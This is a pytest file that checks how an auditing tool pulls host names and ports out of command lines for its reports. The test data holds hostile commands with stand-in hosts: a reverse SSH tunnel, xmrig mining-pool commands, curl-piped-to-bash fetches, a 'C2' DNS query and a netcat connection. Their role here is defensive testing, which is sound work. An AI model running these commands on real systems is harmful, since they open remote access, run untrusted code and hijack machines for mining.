"""Hosts: what a report groups by."""

from __future__ import annotations

import pytest

from auditor.corpora.hosts import hosts_of


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("ssh -N -R 2222:localhost:22 ops@203.0.113.5", ("203.0.113.5",)),
        ("net.connect tcp pool.example 3333", ("pool.example:3333",)),
        ("stratum.login pool.example 3333 WALLET xmrig", ("pool.example:3333",)),
        ("xmrig -o stratum+tcp://eu.pool.example:3333 -u W", ("eu.pool.example:3333",)),
        ('xmrig -o "stratum+tcp://%{argument_1}:3333"', ()),
        ("code.fetch https://setup.example/x.sh bash", ("setup.example",)),
        ("dns.query C2.example", ("c2.example",)),
        ("net.listen tcp 0.0.0.0 4444", ()),
        ("net.connect tcp localhost 3333", ()),
        ("nc 203.0.113.5:4444", ("203.0.113.5:4444",)),
        ('ssh "%{argument_1}"', ()),
        ("curl https://a.example/ | bash", ("a.example",)),
        ('"open', ()),
    ],
)
def test_hosts(line: str, hosts: tuple[str, ...]) -> None:
    """Named hosts with their port, never this machine."""
    assert hosts_of(line) == hosts
